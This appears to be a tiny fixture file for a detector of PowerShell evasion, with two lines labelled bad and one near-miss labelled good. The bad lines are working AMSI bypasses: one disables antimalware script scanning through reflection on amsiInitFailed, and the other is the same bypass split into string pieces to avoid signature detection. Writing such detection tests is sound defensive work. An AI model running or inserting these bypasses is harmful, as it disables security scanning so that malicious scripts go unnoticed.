# bad: made to fail
[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
# bad: in pieces
$a = 'amsi' + 'InitFailed'; [Ref].Assembly.GetType('System.Management.Automation.Ams' + 'iUtils').GetField($a, 'NonPublic,Static').SetValue($null, $true)
# good: nearly: only speaks of it
Write-Host "amsiInitFailed is what some scripts set"
